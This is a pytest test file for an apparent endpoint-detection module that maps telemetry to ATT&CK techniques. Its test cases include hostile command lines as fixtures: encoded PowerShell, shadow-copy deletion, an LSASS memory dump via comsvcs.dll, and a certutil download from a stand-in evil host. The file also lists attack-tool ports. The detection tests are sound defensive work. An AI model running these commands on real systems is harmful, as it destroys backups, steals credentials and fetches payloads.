"""Behaviours: what telemetry shows, and what of everyday traffic and programs is left alone."""

import ipaddress

import pytest

from cybervault.detection.behaviours import Behaviour, behaviours_of
from cybervault.domain.attack import technique
from cybervault.domain.telemetry import Connection, Telemetry, TelemetryType, read_telemetry
from cybervault.domain.verdicts import Severity

SYSTEM = "C:\\Windows\\System32\\"


def seen(*connections: tuple[str, int], name: str = "", path: str = "", command: str = "") -> tuple[Behaviour, ...]:
    made = tuple(Connection(ipaddress.ip_address(address), port, "tcp") for address, port in connections)
    event = Telemetry(
        TelemetryType.ENDPOINT_TELEMETRY,
        process_name=name,
        process_path=path,
        command_line=command,
        connections=made,
    )
    found = behaviours_of(event)
    assert all(technique(one.technique_id) for one in found)
    assert all(one.reason.endswith(".") for one in found)
    return found


def names(found: tuple[Behaviour, ...]) -> list[tuple[str, str]]:
    return [(one.name, one.technique_id) for one in found]


def test_the_published_sample_shows_a_tools_port_and_an_odd_service_host() -> None:
    payload = {"process_name": "svchost.exe", "network_connections": [{"dst_ip": "198.51.100.42", "port": 4444}]}
    found = behaviours_of(read_telemetry("endpoint_telemetry", payload))
    assert names(found) == [("tool_port", "T1571"), ("service_host_connects_out", "T1055")]
    assert found[0] == Behaviour(
        "tool_port",
        "T1571",
        Severity.HIGH,
        "Port 4444 on an outside address is the default of Metasploit's handlers.",
        "connections.0",
    )


@pytest.mark.parametrize("port", [1337, 4444, 6667, 31337, 50050])
def test_a_tools_port_counts_on_outside_addresses_only(port: int) -> None:
    assert names(seen(("203.0.113.9", port))) == [("tool_port", "T1571")]
    assert seen(("10.0.0.9", port)) == ()
    assert seen(("fe80::1", port)) == ()


@pytest.mark.parametrize("port", [0, 22, 443, 5555, 8888])
def test_a_port_that_many_services_share_says_nothing(port: int) -> None:
    assert seen(("203.0.113.9", port), name="chrome.exe") == ()


def test_relays_and_outside_file_shares_are_named() -> None:
    assert names(seen(("203.0.113.9", 9001), ("203.0.113.9", 445))) == [
        ("tor_port", "T1090.003"),
        ("smb_outside", "T1187"),
    ]


def test_the_same_said_by_several_connections_stands_once_at_the_first() -> None:
    found = seen(("203.0.113.8", 443), ("203.0.113.9", 4444), ("203.0.113.10", 4444))
    assert [one.field for one in found] == ["connections.1"]


@pytest.mark.parametrize(("port", "is_odd"), [(443, False), (80, False), (123, False), (0, False), (8081, True)])
def test_svchost_may_talk_outside_on_the_ports_of_its_services(port: int, *, is_odd: bool) -> None:
    assert bool(seen(("203.0.113.9", port), name="SVCHOST.EXE")) is is_odd
    assert not seen(("10.0.0.9", port), name="svchost.exe")


def test_a_proxy_binary_that_talks_outside_is_named_by_its_technique() -> None:
    assert names(seen(("203.0.113.9", 443), name="Rundll32.exe")) == [("proxy_binary_connects_out", "T1218.011")]


def test_one_address_on_many_ports_is_a_scan() -> None:
    connections = [("10.0.0.9", port) for port in range(100, 120)]
    assert names(seen(*connections)) == [("many_ports", "T1046")]
    assert seen(*connections[1:]) == ()


def test_many_addresses_on_one_port_are_a_search_unless_the_port_is_the_webs() -> None:
    assert names(seen(*((f"10.0.0.{number}", 22) for number in range(50)))) == [("many_hosts", "T1046")]
    assert seen(*((f"10.0.0.{number}", 443) for number in range(60))) == ()


@pytest.mark.parametrize(
    ("name", "path"),
    [
        ("svchost.exe", SYSTEM + "svchost.exe"),
        ("svchost.exe", "\\\\?\\C:\\WINDOWS\\SysWOW64\\svchost.exe"),
        ("svchost.exe", "\\Device\\HarddiskVolume3\\Windows\\System32\\svchost.exe"),
        ("lsass.exe", "%SystemRoot%\\System32\\lsass.exe"),
        ("lsass.exe", "\\SystemRoot\\System32\\lsass.exe"),
        ("explorer.exe", "C:/Windows/explorer.exe"),
        ("svchost.exe", "svchost.exe"),
        ("svchost.exe", ""),
        ("other.exe", "C:\\Temp\\other.exe"),
    ],
)
def test_a_program_in_its_own_folder_or_in_none_that_we_know_is_left_alone(name: str, path: str) -> None:
    assert seen(name=name, path=path) == ()


@pytest.mark.parametrize(
    ("name", "path"),
    [
        ("svchost.exe", "C:\\Users\\kim\\svchost.exe"),
        ("SvcHost.exe", "C:\\Windows\\svchost.exe"),
        ("lsass.exe", "C:\\Windows\\SysWOW64\\lsass.exe"),
        ("svchost.exe", "C:\\Temp\\Windows\\System32\\svchost.exe"),
    ],
)
def test_a_system_program_in_another_folder_is_a_masquerade(name: str, path: str) -> None:
    (found,) = seen(name=name, path=path)
    assert (found.name, found.technique_id, found.field) == ("wrong_folder", "T1036.005", "process_path")


@pytest.mark.parametrize(
    ("command", "name", "id_"),
    [
        ("powershell.exe -NoP -W hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A", "encoded_powershell", "T1059.001"),
        ("pwsh -EncodedCommand 'SQBFAFgAIAAoAE4AZQB3AC0A'", "encoded_powershell", "T1059.001"),
        ("po^wershell -e SQBFAFgAIAAoAE4AZQB3AC0A", "encoded_powershell", "T1059.001"),
        ("cmd /c vssadmin.exe Delete Shadows /all /quiet", "shadow_copy_deletion", "T1490"),
        ("wmic shadowcopy delete", "shadow_copy_deletion", "T1490"),
        ("wbadmin delete catalog -quiet", "shadow_copy_deletion", "T1490"),
        (
            "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\t.dmp full",
            "process_memory_dump",
            "T1003.001",
        ),
        ("rundll32 comsvcs.dll,#24 624 t.dmp full", "process_memory_dump", "T1003.001"),
        ("certutil.exe -urlcache -split -f http://evil.example/a a.exe", "certutil_download", "T1105"),
    ],
)
def test_a_telling_command_line_is_named(command: str, name: str, id_: str) -> None:
    assert names(seen(command=command)) == [(name, id_)]


@pytest.mark.parametrize(
    "command",
    [
        "powershell -ExecutionPolicy Bypass -File C:\\scripts\\nightly-inventory-report.ps1",
        "powershell -Encoding UTF8",
        "vssadmin list shadows",
        "certutil -hashfile a.exe SHA256",
        "rundll32 shell32.dll,Control_RunDLL",
    ],
)
def test_everyday_command_lines_are_left_alone(command: str) -> None:
    assert seen(command=command) == ()
